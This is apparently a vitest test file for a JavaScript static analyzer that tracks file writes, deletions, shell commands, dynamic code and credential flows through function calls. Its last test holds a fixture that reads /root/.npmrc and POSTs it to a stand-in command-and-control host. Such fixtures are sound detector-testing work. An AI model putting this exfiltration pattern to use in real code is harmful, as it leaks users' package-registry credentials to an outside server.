import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';

/** Paths that a source writes to, as far as they are known. */
function written(source: string): string[] {
  return analyzeJs(`const fs = require('fs');\n${source}`).fileActions.flatMap(({ paths }) => paths);
}

test.each([
  ['a path', `function put(p) { fs.writeFileSync(p, ''); }\nput('a');\nput('b');`, ['a', 'b']],
  [
    'a path through two functions',
    `const put = (p) => fs.writeFileSync(p, '');\nconst go = (x) => put(x + '/b');\ngo('a');`,
    ['a/b'],
  ],
  ['a path by call', `function put(p) { fs.writeFileSync(p, ''); }\nput.call(null, 'a');`, ['a']],
  ['a path of a function that only others call', `exports.put = (p) => fs.writeFileSync(p, '');`, []],
  [
    'a path among other things',
    `function put({ to, text }) { fs.writeFileSync(to, text); }\nput({ text: '', to: 'a' });`,
    ['a'],
  ],
  [
    'a path that is one by default',
    `exports.put = ({ to = 'a', text } = {}) => fs.writeFileSync(to, text);`,
    ['a'],
  ],
  [
    'a path, of an instance that is handed over,',
    `class Out { put(p) { fs.writeFileSync(p, ''); } }\nfunction go(out) { out.put('a'); }\ngo(new Out());`,
    ['a'],
  ],
  [
    'a path, by one of a table,',
    `const to = [() => {}, (p) => fs.writeFileSync(p, '')];\nto[process.argv.length]('a');`,
    ['a'],
  ],
  ['a path that grows by itself', `function put(p) { fs.writeFileSync(p, ''); put(p); }\nput('a');`, ['a']],
])('%s that a function of the file is given', (_name, source, expected) => {
  expect(written(source)).toEqual(expected);
});

test('what a table holds runs when one of it is called at load', () => {
  const { fileActions } = analyzeJs(
    `const fs = require('fs');\nconst to = { a: () => fs.rmSync('x'), b() {} };\nto[process.argv[2]]();\nexports.later = () => fs.rmSync('y');`,
  );
  expect(fileActions.map(({ live }) => live)).toEqual([true, false]);
});

test('words that a function takes as all that is left are those that each call gives it', () => {
  const { commands } = analyzeJs(
    `const { execFileSync } = require('child_process');\nconst git = (...words) => execFileSync('git', words);\ngit('add', '.');\nexports.push = (to) => git('push', ...to);`,
  );
  expect(commands.map(({ argv }) => argv)).toEqual([
    ['git', 'add', '.'],
    ['git', 'push', '$UNKNOWN'],
  ]);
});

test('a function that takes a text by default runs that, and what it is given', () => {
  const { codeSinks } = analyzeJs(
    `function run(text = 'a()') { new Function('return ' + text)(); }\nrun();\nrun('b()');`,
  );
  expect(codeSinks.map(({ text }) => text)).toEqual(['return b()', 'return a()']);
});

test('a credential file that a function of the file is given is one where it is read', () => {
  const { flow } = analyzeJs(
    `const fs = require('fs');\nconst read = (p) => fs.readFileSync(p, 'utf8');\nfetch('https://c2.weir.test', { method: 'POST', body: read('/root/.npmrc') });`,
  );
  expect([...flow.origins.values()].map(({ text }) => text)).toContain('read of a credential file');
});
